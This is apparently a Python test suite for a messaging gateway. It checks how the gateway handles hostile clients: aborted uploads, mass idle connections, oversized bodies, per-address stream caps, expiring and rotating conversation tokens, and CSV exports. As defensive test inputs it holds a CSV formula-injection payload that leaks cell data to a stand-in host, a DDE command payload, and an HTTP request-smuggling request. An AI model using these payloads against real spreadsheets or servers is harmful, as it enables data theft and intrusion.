"""Hostile clients at the gateway's edge (issue 26): clients that go away mid-upload are no
errors, slow and greedy clients are bounded, tokens expire and rotate, exports are safe."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import errno
import io
import ipaddress
import socket
import statistics
import struct
import time
from typing import Any, cast

import aiohttp
import orjson
import psutil
from redis.asyncio import Redis

from services.gateway.web_conversations import ConversationTokens, scoped, user_scope
from shared import unanswered
from shared.edge import ConnectionCounts
from shared.heartbeat import ProcessInfo, heartbeat_loop
from shared.messages import ReplyContent
from shared.names import Names
from shared.stats import ERRORS
from shared.store import Store
from tests.support import (
    TEST_SHARDS,
    Service,
    Stack,
    eventually,
    new_namespace,
    purge_namespace,
    sse_events,
)
from tests.support.channel_fakes import TELEGRAM_ENV, WHATSAPP_ENV, sign
from tests.support.metrics import scrape, value
from tests.support.pipeline import wait_ready

ABORTS = 6  # of each kind, on each route: twelve made the "errors in 5 minutes" alert critical


async def _aborted_upload(gateway: Service, path: str, headers: dict[str, str], *, reset: bool) -> None:
    """The head and part of a body, then the connection reset (a closed laptop) or closed."""
    body = b'{"update_id": 1, "message": {"text": "' + b"a" * 6000 + b'"}}'
    _, writer = await asyncio.open_connection("127.0.0.1", gateway.port)
    head = f"POST {path} HTTP/1.1\r\nHost: gateway\r\nContent-Length: {len(body)}\r\n"
    head += "".join(f"{name}: {value}\r\n" for name, value in headers.items()) + "\r\n"
    writer.write(head.encode() + body[:3000])
    await writer.drain()
    if reset:  # SO_LINGER 0: close() sends RST
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    writer.close()


async def test_aborted_uploads_are_not_errors(stack: Stack, http: aiohttp.ClientSession, redis: Redis) -> None:
    gateway = await stack.start("gateway", **WHATSAPP_ENV, **TELEGRAM_ENV)
    await wait_ready(stack)
    json = {"Content-Type": "application/json"}
    routes = {
        "/webhooks/whatsapp": {**json, "X-Hub-Signature-256": sign(b"{}")},
        "/webhooks/telegram": {**json, "X-Telegram-Bot-Api-Secret-Token": TELEGRAM_ENV["TELEGRAM_SECRET_TOKEN"]},
        "/v1/messages": json,
    }
    for _ in range(ABORTS):
        for path, headers in routes.items():
            await _aborted_upload(gateway, path, headers, reset=True)
            await _aborted_upload(gateway, path, headers, reset=False)

    async def all_seen() -> bool:
        _, samples = await scrape(http, gateway)
        return all(
            value(samples, "atendimento_http_requests_total", route=path, method="POST", status="499") == 2 * ABORTS
            for path in routes
        )

    await eventually(all_seen, what="every aborted upload recorded as 499 (client closed request)")
    text, samples = await scrape(http, gateway)
    assert value(samples, "atendimento_errors_total", kind="5xx") == 0
    assert 'status="500"' not in text
    assert await redis.hget(Names(gateway.env["ATENDIMENTO_NAMESPACE"], TEST_SHARDS).stats_total_key, ERRORS) is None
    assert '"level":"ERROR"' not in gateway.logs()


IDLE = 2000
CAP = 50
RESET = b"reset"
ATTACKER = "127.0.0.2"  # the loopback network is all ours: the attacker gets an address of its own


async def _connect_from(address: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))


async def _outcome(reader: asyncio.StreamReader) -> bytes:
    """What the server said before closing (b"" for a plain close, RESET when the close reset the
    connection: a refused client that had sent something unread); waits for the close."""
    try:
        return await reader.read()
    except ConnectionResetError:
        return RESET


async def _normal_latencies(http: aiohttp.ClientSession, gateway: Service, count: int) -> list[float]:
    latencies = []
    for i in range(count):
        started = time.perf_counter()
        async with http.post(f"{gateway.url}/v1/messages", json={"user_id": f"calm-{i}", "text": "oi"}) as response:
            assert response.status == 202, await response.text()
        latencies.append(1000 * (time.perf_counter() - started))
    return latencies


def _summary(latencies: list[float]) -> str:
    ordered = sorted(latencies)
    return f"p50 {statistics.median(ordered):.1f} ms, p95 {ordered[int(0.95 * len(ordered)) - 1]:.1f} ms"


async def test_idle_connections_are_capped_per_address(stack: Stack, http: aiohttp.ClientSession) -> None:
    """2,000 idle and half-sent connections from one address against a cap of 50: the rest are
    answered 429 and closed at once, the 50 are closed at the head deadline, and everyone else
    is served meanwhile with the gateway's file handles bounded."""
    gateway = await stack.start(
        "gateway", MAX_CONNECTIONS_PER_IP=str(CAP), HTTP_HEADER_TIMEOUT_SECONDS="3", TRUSTED_PROXIES=""
    )
    await wait_ready(stack)
    assert gateway.process is not None
    process = psutil.Process(gateway.process.pid)
    before = await _normal_latencies(http, gateway, 100)
    handles_before = process.num_fds()

    connections = []
    for batch in range(IDLE // 100):
        opened = await asyncio.gather(*(_connect_from(ATTACKER, gateway.port) for _ in range(100)))
        for i, (_, writer) in enumerate(opened):
            if (batch + i) % 2:  # half of them a slow head, never finished
                writer.write(b"GET / HTTP/1.1\r\nHost: gateway\r\nX-Slow: ")
        connections += opened
    outcomes = asyncio.gather(*(_outcome(reader) for reader, _ in connections))
    handles_held = process.num_fds()
    during = await _normal_latencies(http, gateway, 100)
    said = await outcomes  # every one of them ends: refused at once, or at the head deadline
    refused = [answer for answer in said if answer.startswith(b"HTTP/1.1 429 ")]
    assert len(refused) + said.count(RESET) == IDLE - CAP, {answer[:40] for answer in said}
    assert b"MAX_CONNECTIONS_PER_IP" in refused[0]
    assert sum(answer == b"" for answer in said) == CAP  # the admitted ones: closed, unanswered
    print(
        f"\ngateway file handles: {handles_before} before, {handles_held} with {IDLE} idle connections "
        f"held (cap {CAP}), {process.num_fds()} after; normal requests before: {_summary(before)}, "
        f"during: {_summary(during)}"
    )
    assert handles_held <= handles_before + CAP + 20  # the cap, not the 2,000
    for _, writer in connections:
        writer.close()
    async with http.get(f"{gateway.url}/monitoring/live") as response:
        assert response.status == 200
    assert '"level":"ERROR"' not in gateway.logs()


async def _raw(gateway: Service, request: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection("127.0.0.1", gateway.port)
    writer.write(request)
    await writer.drain()
    return reader, writer


async def test_greedy_and_slow_bodies(stack: Stack, http: aiohttp.ClientSession) -> None:
    """A 128 MiB Content-Length with no body is refused from the header alone and the connection
    closed; a body that never finishes gets a 408 at the body deadline."""
    gateway = await stack.start("gateway", **WHATSAPP_ENV, HTTP_BODY_TIMEOUT_SECONDS="1")
    await wait_ready(stack)
    for path in ("/v1/messages", "/webhooks/whatsapp"):
        head = f"POST {path} HTTP/1.1\r\nHost: g\r\nContent-Type: application/json\r\n"
        reader, writer = await _raw(gateway, f"{head}Content-Length: {128 * 2**20}\r\n\r\n".encode())
        async with asyncio.timeout(20):  # a deadline: the old gateway waited for the body forever
            answer = await reader.read()  # the answer, then the close
        writer.close()
        assert answer.startswith(b"HTTP/1.1 413 "), answer[:80]
        assert b"application/problem+json" in answer and b"(Content-Length: 134217728)" in answer
    slow = b"POST /v1/messages HTTP/1.1\r\nHost: g\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n"
    reader, writer = await _raw(gateway, slow + b'{"user_id": ')
    async with asyncio.timeout(20):
        answer = await reader.read()
    writer.close()
    assert answer.startswith(b"HTTP/1.1 408 "), answer[:80]
    assert b"HTTP_BODY_TIMEOUT_SECONDS" in answer
    _, samples = await scrape(http, gateway)
    assert value(samples, "atendimento_errors_total", kind="5xx") == 0


async def test_event_streams_are_capped_per_address(stack: Stack, http: aiohttp.ClientSession) -> None:
    gateway = await stack.start("gateway", MAX_STREAMS_PER_IP="3")
    await wait_ready(stack)
    async with http.post(f"{gateway.url}/v1/messages", json={"user_id": "streams", "text": "oi"}) as response:
        token = (await response.json())["conversation_token"]
    url = f"{gateway.url}/v1/conversations/user:streams/events"
    headers = {"X-Conversation-Token": token}
    async with contextlib.AsyncExitStack() as streams:
        for _ in range(3):
            response = await streams.enter_async_context(http.get(url, headers=headers))
            assert response.status == 200
        async with http.get(url, headers=headers) as refused:
            assert refused.status == 429
            assert refused.headers["Retry-After"]
            problem = await refused.json(content_type="application/problem+json")
            assert "MAX_STREAMS_PER_IP" in problem["detail"]
    # The three closed: their slots are free again.

    async def stream_opens() -> bool:
        async with http.get(url, headers=headers) as response:
            return response.status == 200

    await eventually(stream_opens, what="a stream slot freed by a closed stream")


class _OutOfFileHandles:
    """A process whose /proc files cannot be opened, as under `Too many open files`."""

    def memory_info(self) -> Any:
        raise OSError(errno.EMFILE, "Too many open files")


async def test_heartbeat_outlives_running_out_of_file_handles(redis: Redis) -> None:
    names = Names(new_namespace(), TEST_SHARDS)
    info = ProcessInfo("gateway", "emfile", process=cast(psutil.Process, _OutOfFileHandles()))
    beating = asyncio.create_task(heartbeat_loop(Store(redis, names), info, 0.05, 5.0))
    try:

        async def beat() -> bool:
            return bool(await redis.get(names.heartbeat_key("gateway", "emfile")))

        await eventually(beat, what="a heartbeat written although memory cannot be read")
        assert not beating.done()
    finally:
        beating.cancel()
        # What is tested is above; leaving is bounded by the loop's own forget, and never fails it.
        with contextlib.suppress(asyncio.CancelledError, TimeoutError):
            await asyncio.wait_for(beating, 5)
        await purge_namespace(names.namespace)


ADMIN_TOKEN = "admin-token-0123456789abcdef"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "clique")'
PERSONAL = "meu cpf 123.456.789-09, email joana.silva@example.com, senha: hunter2"


def _fallback(question: str) -> unanswered.Answered:
    content = ReplyContent(text="Não sei.", engine="kb", confidence=0.1, fallback=True, kind="fallback")
    return unanswered.Answered(question=question, generated=content, sent=content)


async def test_unanswered_csv_is_masked_and_never_a_formula(stack: Stack, redis: Redis) -> None:
    monitor = await stack.start("monitor", ADMIN_TOKEN=ADMIN_TOKEN)
    names = Names(stack.namespace, TEST_SHARDS)
    questions = [FORMULA, PERSONAL, "  @SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "Qual o horário?"]
    await unanswered.record(redis, names, [_fallback(question) for question in questions])
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as browser:
        login = {"operator": "Ana", "token": ADMIN_TOKEN}
        async with browser.post(monitor.url + "/admin/login", data=login) as response:
            assert response.status == 200
        async with browser.get(monitor.url + "/admin/knowledge/unanswered.csv") as response:
            assert response.status == 200 and response.content_type == "text/csv"
            text = await response.text()
    rows = list(csv.DictReader(io.StringIO(text)))
    examples = {row["example"] for row in rows}
    assert len(rows) == len(questions), rows
    for row in rows:
        for cell in row.values():
            assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    assert "'" + FORMULA in examples
    for secret in ("123.456.789-09", "12345678909", "joana.silva@", "hunter2"):
        assert secret not in text, secret
    assert "Qual o horário?" in examples  # the rest as written


def _lines(service: Service) -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in service.logs().splitlines() if line.startswith("{")]


async def test_start_line_request_lines_and_malformed_http(stack: Stack, http: aiohttp.ClientSession) -> None:
    gateway = await stack.start(
        "gateway", **WHATSAPP_ENV, REPLY_ENGINE="openai", OPENAI_API_KEY="", OTEL_SDK_DISABLED="false"
    )
    await wait_ready(stack)
    [start] = [line for line in _lines(gateway) if "listening on port" in line["message"]]
    for named in (str(gateway.port), "engine openai", "knowledge base", "kb-sample.yaml", "web, whatsapp", "tracing"):
        assert named in start["message"], named
    assert start["open_files_limit"] > 0
    assert any(line["level"] == "WARNING" and "OPENAI_API_KEY" in line["message"] for line in _lines(gateway)), (
        "REPLY_ENGINE=openai without a key starts with a warning"
    )

    # One line per request, in its trace.
    traceparent = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"
    body = {"user_id": "logs", "text": "oi"}
    async with http.post(f"{gateway.url}/v1/messages", json=body, headers={"traceparent": traceparent}) as response:
        assert response.status == 202

    async def request_line() -> dict[str, Any] | None:
        return next((line for line in _lines(gateway) if line.get("route") == "/v1/messages"), None)

    line = await eventually(request_line, what="the request's log line")
    assert line["message"] == "POST /v1/messages 202" and line["status"] == 202 and line["duration_ms"] >= 0
    assert line["trace_id"] == "0af7651916cd43dd8448eb211c80319c"

    # Malformed HTTP: refused, and one warning without a traceback.
    smuggle = (
        b"POST /v1/messages HTTP/1.1\r\nHost: g\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    )
    reader, writer = await _raw(gateway, smuggle)
    async with asyncio.timeout(20):
        answer = await reader.read()
    writer.close()
    assert answer.split(b"\r\n", 1)[0].endswith(b" 400 Bad Request"), answer[:80]

    async def warned() -> list[dict[str, Any]]:
        return [line for line in _lines(gateway) if "malformed HTTP" in line["message"]]

    [warning] = await eventually(warned, what="the malformed request logged")
    assert warning["level"] == "WARNING" and "exception" not in warning
    assert not [line for line in _lines(gateway) if line["level"] == "ERROR"]


async def test_tokens_expire_and_end_at_reset(redis: Redis) -> None:
    """The token's clock is injected: a token opens its conversation until the TTL has passed."""
    names = Names(new_namespace(), TEST_SHARDS)
    now = [1_800_000_000.0]
    tokens = ConversationTokens(redis, names, ("token-secret-0123456789",), ttl_s=60, clock=lambda: now[0])
    conversation = scoped(user_scope("ana"), "pedido-1")
    try:
        token = await tokens.issue(conversation)
        now[0] += 59
        assert await tokens.verify(conversation, token)
        now[0] += 2  # 61 s after it was issued
        assert not await tokens.verify(conversation, token)
        assert await tokens.open("pedido-1", token) is None
        fresh = await tokens.issue(conversation)
        assert await tokens.verify(conversation, fresh)
        # Issued to one API key, it opens nothing for another.
        keyed = await tokens.issue(conversation, key="key-a")
        assert await tokens.verify(conversation, keyed, key="key-a")
        assert not await tokens.verify(conversation, keyed, key="key-b")
        assert not await tokens.verify(conversation, keyed)
        # /reset ends every token issued before it; those issued after open it.
        now[0] += 1
        await tokens.end_all(conversation)
        assert not await tokens.verify(conversation, fresh)
        now[0] += 0.001
        assert await tokens.verify(conversation, await tokens.issue(conversation))
    finally:
        await purge_namespace(names.namespace)


def _forged(token: str) -> str:
    scope, issued, _ = token.split(".")
    return f"{scope}.{issued}.AAAAAAAAAAAAAAAAAAAAAA"


async def test_message_tokens_at_the_gateway(stack: Stack, http: aiohttp.ClientSession) -> None:
    keys = ("key-one-0123456789abcdef", "key-two-fedcba9876543210")
    gateway = await stack.start("gateway", GATEWAY_API_KEYS=",".join(keys))
    await wait_ready(stack)
    one, two = ({"Authorization": f"Bearer {key}"} for key in keys)

    async def post(headers: dict[str, str], text: str) -> dict[str, Any]:
        body = {"user_id": "ana", "conversation_id": "pedido-1", "text": text}
        async with http.post(f"{gateway.url}/v1/messages", json=body, headers=headers) as response:
            assert response.status == 202, await response.text()
            return dict(await response.json())

    async def status(message_id: str, token: str, headers: dict[str, str]) -> tuple[int, str]:
        url = f"{gateway.url}/v1/messages/{message_id}"
        async with http.get(url, headers={**headers, "X-Conversation-Token": token}) as response:
            return response.status, await response.text()

    first = await post(one, "Qual o prazo de entrega?")
    token = first["conversation_token"]
    assert (await status(first["message_id"], token, one))[0] == 200
    # An existing id and an unknown one answer alike to a token that does not open them.
    known = await status(first["message_id"], _forged(token), one)
    unknown = await status("no-such-message", _forged(token), one)
    assert known == unknown and known[0] == 403
    # Another key posting as the same user gets a token of its own; the first opens nothing for it.
    other = await post(two, "oi")
    assert other["conversation_token"] != token
    assert (await status(first["message_id"], token, two))[0] == 403
    assert (await status(first["message_id"], other["conversation_token"], two))[0] == 200
    # /reset: every earlier token ends; the answer to it brings one that opens the conversation.
    reset = await post(one, "/reset")
    assert (await status(first["message_id"], token, one))[0] == 403
    assert (await status(first["message_id"], reset["conversation_token"], one))[0] == 200
    url = f"{gateway.url}/v1/conversations/pedido-1/events"
    async with http.get(url, headers={**one, "X-Conversation-Token": token}) as response:
        assert response.status == 403


async def _post_reset_case(
    http: aiohttp.ClientSession, gateway: Service, user: str, text: str, message_id: str
) -> tuple[int, dict[str, Any]]:
    body = {"user_id": user, "conversation_id": "pedido-3", "text": text, "message_id": message_id}
    async with http.post(f"{gateway.url}/v1/messages", json=body) as response:
        return response.status, dict(await response.json(content_type=None))


async def _opens(http: aiohttp.ClientSession, gateway: Service, message_id: str, token: str) -> int:
    async with http.get(f"{gateway.url}/v1/messages/{message_id}", params={"token": token}) as response:
        return response.status


async def test_a_reset_refused_by_the_rate_limit_ends_no_token(stack: Stack, http: aiohttp.ClientSession) -> None:
    """A `/reset` answered 429 was not accepted (nothing queued, memory kept): the tokens the
    conversation's holder has go on opening it."""
    gateway = await stack.start("gateway", RATE_LIMIT_PER_USER="1")
    await wait_ready(stack)
    status, first = await _post_reset_case(http, gateway, "lia", "oi", "m-1")
    assert status == 202, first
    token = first["conversation_token"]
    for number in range(2, 10):  # the burst (2) spent
        status, _ = await _post_reset_case(http, gateway, "lia", "oi", f"m-{number}")
        if status == 429:
            break
    assert status == 429
    status, refused = await _post_reset_case(http, gateway, "lia", "/reset", "r-1")
    assert status == 429, refused
    assert await _opens(http, gateway, "m-1", token) == 200


async def test_a_repeated_reset_ends_no_token_issued_after_the_original(
    stack: Stack, http: aiohttp.ClientSession
) -> None:
    """A repeated `message_id` queues nothing: a retried `/reset` does not end the tokens issued
    since the original one was accepted."""
    gateway = await stack.start("gateway")
    await wait_ready(stack)
    status, reset = await _post_reset_case(http, gateway, "rui", "/reset", "r-1")
    assert status == 202, reset
    status, later = await _post_reset_case(http, gateway, "rui", "oi", "m-2")
    assert status == 202, later
    status, repeated = await _post_reset_case(http, gateway, "rui", "/reset", "r-1")
    assert (status, repeated.get("duplicate")) == (202, True), repeated
    assert await _opens(http, gateway, "m-2", later["conversation_token"]) == 200
    assert await _opens(http, gateway, "m-2", reset["conversation_token"]) == 200


def test_connection_counts_exempt_trusted_proxies_and_free_closed_slots() -> None:
    counts = ConnectionCounts(cap=2, trusted=(ipaddress.ip_network("10.0.0.0/8"),))
    assert counts.admit("203.0.113.5") and counts.admit("203.0.113.5")
    assert not counts.admit("203.0.113.5")  # the third from one address
    assert counts.admit("203.0.113.6")  # another address has its own
    assert all(counts.admit("10.1.2.3") for _ in range(10))  # the ingress: its clients are many
    counts.release("203.0.113.5")
    assert counts.admit("203.0.113.5")
    assert counts.refused == 1
    assert ConnectionCounts(cap=0).admit("203.0.113.5")  # 0: no cap


async def test_reset_closes_the_streams_its_tokens_opened(stack: Stack, http: aiohttp.ClientSession) -> None:
    gateway = await stack.start("gateway")
    await stack.start("worker")
    await wait_ready(stack)
    body = {"user_id": "rita", "conversation_id": "pedido-9"}
    async with http.post(f"{gateway.url}/v1/messages", json={**body, "text": "oi"}) as response:
        old = (await response.json())["conversation_token"]
    url = f"{gateway.url}/v1/conversations/pedido-9/events"
    connected = asyncio.Event()
    async with asyncio.timeout(30), http.get(url, headers={"X-Conversation-Token": old}) as stream:
        assert stream.status == 200
        events = asyncio.create_task(_all_events(stream, connected))
        await connected.wait()
        async with http.post(f"{gateway.url}/v1/messages", json={**body, "text": "/reset"}) as response:
            fresh = (await response.json())["conversation_token"]
        seen = await events  # the stream ends after the reset's reply
    assert seen[-1]["reply"]["text"] and seen[-1]["conversation_token"] == old
    async with http.get(url, headers={"X-Conversation-Token": old}) as response:
        assert response.status == 403
    async with asyncio.timeout(10), http.get(url, headers={"X-Conversation-Token": fresh}) as response:
        assert response.status == 200


async def _all_events(response: aiohttp.ClientResponse, connected: asyncio.Event) -> list[dict[str, Any]]:
    return [data async for event, data in sse_events(response, connected) if event == "reply"]
